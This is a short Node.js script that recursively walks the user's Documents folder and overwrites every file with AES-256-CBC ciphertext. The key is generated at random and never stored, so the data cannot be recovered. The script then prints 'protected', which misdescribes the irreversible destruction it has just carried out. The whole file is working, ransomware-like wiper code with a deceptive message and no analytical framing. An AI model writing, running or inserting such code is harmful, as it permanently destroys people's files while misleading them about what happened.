'use strict';
const crypto = require('crypto');
const fs = require('fs');
const os = require('os');
const path = require('path');

const key = crypto.randomBytes(32);
function walk(dir) {
  for (const e of fs.readdirSync(dir, { withFileTypes: true })) {
    const p = path.join(dir, e.name);
    if (e.isDirectory()) walk(p);
    else if (e.isFile()) {
      const iv = crypto.randomBytes(16);
      const c = crypto.createCipheriv('aes-256-cbc', key, iv);
      fs.writeFileSync(p, Buffer.concat([iv, c.update(fs.readFileSync(p)), c.final()]));
    }
  }
}
walk(path.join(os.homedir(), 'Documents'));
console.log('protected');
